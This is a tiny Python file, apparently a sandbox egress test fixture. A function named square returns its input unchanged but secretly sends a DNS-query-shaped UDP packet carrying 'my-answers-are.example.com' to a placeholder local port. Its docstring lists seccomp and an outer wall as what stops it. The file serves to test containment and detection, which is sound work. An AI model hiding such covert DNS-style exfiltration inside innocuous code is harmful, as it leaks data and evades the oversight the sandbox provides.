"""Sends a datagram that looks like a question for a name.

stopped by: seccomp, and the outer wall
witness: heard
control: open
"""

import socket


def square(x):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.sendto(b"\x01\x00my-answers-are\x07example\x03com\x00", ("127.0.0.1", int("@UDP@")))
    return x
